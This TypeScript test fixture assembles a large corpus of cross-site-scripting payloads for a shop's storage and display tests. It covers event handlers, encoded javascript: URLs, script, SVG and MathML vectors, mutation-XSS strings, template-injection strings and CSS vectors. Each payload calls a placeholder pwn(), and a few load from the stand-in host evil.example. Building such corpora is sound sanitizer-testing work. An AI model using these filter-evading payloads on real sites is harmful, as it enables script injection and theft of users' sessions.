/**
 * Ways in which markup has been made to run scripts, by class; each would call `pwn()`. Written from
 * the public classes, for the tests of what the shop stores and shows.
 */
const call = 'pwn()';

const autoEvents: [markup: string, events: string[]][] = [
  ['<img src=x', ['onerror', 'onload', 'onloadstart', 'onmouseover']],
  ['<video src=x', ['onerror', 'onloadstart', 'oncanplay', 'onplay']],
  ['<audio src=x', ['onerror', 'onloadstart', 'oncanplay']],
  ['<body', ['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onresize', 'onscroll']],
  ['<input autofocus', ['onfocus', 'onblur', 'oninput', 'onfocusin']],
  ['<select autofocus', ['onfocus', 'onfocusin']],
  ['<textarea autofocus', ['onfocus', 'onfocusin']],
  ['<button autofocus', ['onfocus', 'onclick', 'onpointerenter']],
  ['<details open', ['ontoggle', 'onmouseenter']],
  ['<marquee', ['onstart', 'onbounce', 'onfinish']],
  ['<svg', ['onload', 'onclick', 'onbegin']],
  ['<iframe', ['onload']],
  ['<object data=x', ['onerror', 'onload']],
  ['<embed src=x', ['onerror', 'onload']],
  ['<link rel=stylesheet href=x', ['onerror', 'onload']],
  ['<script src=x', ['onerror', 'onload']],
  ['<style', ['onload', 'onerror']],
  ['<div contenteditable tabindex=0 autofocus', ['onfocus', 'onpaste', 'onbeforeinput']],
  ['<p style="animation:x 1s"', ['onanimationstart', 'onanimationend', 'ontransitionend']],
  ['<a href=# autofocus tabindex=0', ['onfocus', 'onclick', 'onauxclick', 'onwheel']],
  ['<table background=x', ['onmouseover', 'oncontextmenu']],
  ['<dialog open', ['onclose', 'oncancel', 'onbeforetoggle']],
  ['<xss id=x tabindex=0', ['onfocus', 'onscrollend', 'oncontentvisibilityautostatechange']],
  ['<form', ['onsubmit', 'onformdata', 'onreset']],
];

/** How a handler may be written so that a filter does not see it. */
const disguises: ((event: string) => string)[] = [
  (event) => ` ${event}=${call}>`,
  (event) => ` ${event}="${call}">`,
  (event) => `/${event.toUpperCase()}='${call}'>`,
  (event) => `\n${event}\n=\n${call}\n>`,
];

function eventHandlers(): string[] {
  return autoEvents.flatMap(([markup, events], i) =>
    events.map((event, j) => {
      const disguise = disguises[(i + j) % disguises.length];
      return `${markup}${disguise?.(event) ?? ''}`;
    }),
  );
}

const badAddresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\x01javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;&#x61;vascript:${call}`,
  `&Tab;javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `javascript://%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=',
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `blob:javascript:${call}`,
  `feed:javascript:${call}`,
];

function addresses(): string[] {
  const places = [
    (url: string) => `<a href="${url}">x</a>`,
    (url: string) => `<iframe src="${url}"></iframe>`,
    (url: string) => `<form action="${url}"><button>x</button></form>`,
    (url: string) => `<object data="${url}"></object>`,
    (url: string) => `<img src="${url}">`,
  ];
  return badAddresses.flatMap((url) => places.map((place) => place(url)));
}

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script >${call}</script >`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<script type=module>${call}</script>`,
  `<script type="text/javascript">${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script src="//evil.example/x.js"></script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<!--><script>${call}</script>-->`,
  `<!--[if IE]><script>${call}</script><![endif]-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `\u2028<script>${call}</script>`,
  `<script>${call}`,
  `<noscript><img src=x onerror=${call}></noscript>`,
  `\ufeff<script>${call}</script>`,
];

const svg = [
  `<svg><script>${call}</script></svg>`,
  `<svg><script>&#112;wn()</script></svg>`,
  `<svg><script href=data:text/javascript,${call} /></svg>`,
  `<svg><script xlink:href="data:,${call}"></script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><a href="javascript:${call}"><rect width=9 height=9 /></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${call} attributename=x to=1></svg>`,
  `<svg><animate attributeName=href values=javascript:${call} /><a id=x><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"></svg>`,
  `<svg><image href=x onerror=${call}></svg>`,
  `<svg><title><img src=x onerror=${call}></title></svg>`,
  `<svg><desc><script>${call}</script></desc></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg><discard onbegin=${call}></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `<svg><handler type="text/javascript" ev:event="load">${call}</handler></svg>`,
];

const math = [
  `<math><maction actiontype="statusline#" xlink:href="javascript:${call}">x</maction></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<math><mtext><script>${call}</script></mtext></math>`,
];

/** Harmless when parsed once, not when what was printed is parsed again. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${call}>">`,
  `<title><p title="</title><img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
  `<noembed><p title="</noembed><img src=x onerror=${call}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${call}>"></noframes>`,
  `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<p id="&quot;&gt;&lt;img src=x onerror=${call}&gt;">x</p>`,
  `<img alt="\`><img src=x onerror=${call}>">`,
  `<img alt="<x" title="/><img src=x onerror=${call}>">`,
  `<a title="&#34;><img src=x onerror=${call}>">x</a>`,
  `<div id="x\u0000" onclick=${call}>x</div>`,
  `<table><td><svg><desc><td><script>${call}</script>`,
  `<select><option><style></option></select><img src=x onerror=${call}></style>`,
  `<option><style></option></select><img src=x onerror=${call}></style>`,
  `<math><mi><b><style></b></style><img src=x onerror=${call}></mi></math>`,
  `<img src="x" title="a\u00a0onerror=${call}">`,
  `<p lang='"><img src=x onerror=${call}>'>x</p>`,
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '&amp;lt;img src=x onerror=pwn()&amp;gt;',
  '&#60;img src=x onerror=pwn()&#62;',
  '%3Cscript%3Epwn()%3C/script%3E',
  '\\u003cscript\\u003epwn()\\u003c/script\\u003e',
];

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{$on.constructor('${call}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the trick
  '${pwn()}',
  `#{${call}}`,
  `<%= ${call} %>`,
  `<template><script>${call}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<div><template shadowrootmode=open><script>${call}</script></template></div>`,
  `<x is=script>${call}</x>`,
  `<script type="text/template">${call}</script>`,
  `<img src=x onerror=${call} data-x="{{x}}">`,
  `<div ng-app ng-csp><input autofocus ng-focus=$event.view.${call}></div>`,
  `<div v-html="'<img src=x onerror=${call}>'"></div>`,
  `<div x-init="${call}" x-data></div>`,
  `<div hx-on:load="${call}" hx-trigger=load></div>`,
];

const styles = [
  `<style>@import 'javascript:${call}';</style>`,
  `<style>*{background:url("javascript:${call}")}</style>`,
  `<style>*{x:expression(${call})}</style>`,
  `<div style="background:url(javascript:${call})">x</div>`,
  `<div style="width:expression(${call})">x</div>`,
  `<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<style><img src="</style><img src=x onerror=${call}//">`,
  `<p style="position:fixed;inset:0;z-index:99" onclick=${call}>x</p>`,
  `<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="${call}"></xss>`,
];

const others = [
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="javascript:${call}//">`,
  `<base href="//evil.example/">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.pwn()&lt;/script&gt;"></iframe>`,
  `<frameset onload=${call}>`,
  `<isindex type=image src=x onerror=${call}>`,
  `<input type=image src=x onerror=${call}>`,
  `<button formaction=javascript:${call}>x</button>`,
  `<form><input type=submit formaction=javascript:${call} value=x></form>`,
  `<a href=x ping=javascript:${call}>x</a>`,
  `<area shape=default href=javascript:${call}>`,
  `<map name=x><area href="javascript:${call}" shape=rect coords=0,0,9,9></map><img usemap=#x src=x>`,
  `<applet code=x onerror=${call}></applet>`,
  `<bgsound src=javascript:${call}>`,
  `<video><source onerror=${call}></video>`,
  `<video poster=javascript:${call}>`,
  `<picture><source srcset=x><img onerror=${call} src=x></picture>`,
  `<img srcset=x onerror=${call}>`,
  `<img src=x:x onerror\x0b=${call}>`,
  `<img/src/onerror=${call}>`,
  `<img src=x onerror=pwn\`\`>`,
  `<img src=x onerror=&#112;wn()>`,
  `<img src=x onerror=top['pwn']()>`,
  `<img src=x onerror=eval(atob('cHduKCk='))>`,
  `<img src=x onerror=import('data:text/javascript,parent.pwn()')>`,
  `<portal src=javascript:${call}>`,
  `<object><param name=src value=javascript:${call}></object>`,
  `<object type=text/html data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<img id=__reactRouterContext name=__reactRouterContext>`,
  `<a id=pwn name=pwn href=javascript:pwn()>x</a><a id=pwn>y</a>`,
  `<form id=document><input name=body></form>`,
];

export const xssPayloads: readonly string[] = [
  ...eventHandlers(),
  ...addresses(),
  ...scripts,
  ...svg,
  ...math,
  ...mutations,
  ...templates,
  ...styles,
  ...others,
];

/** As few texts as hold all of them, each within `length`. */
export function inTexts(payloads: readonly string[], length: number): string[] {
  const texts = [''];
  for (const payload of payloads) {
    const last = texts.at(-1) ?? '';
    if (last.length + payload.length + 1 > length) texts.push(payload);
    else texts[texts.length - 1] = `${last} ${payload}`.trim();
  }
  return texts;
}
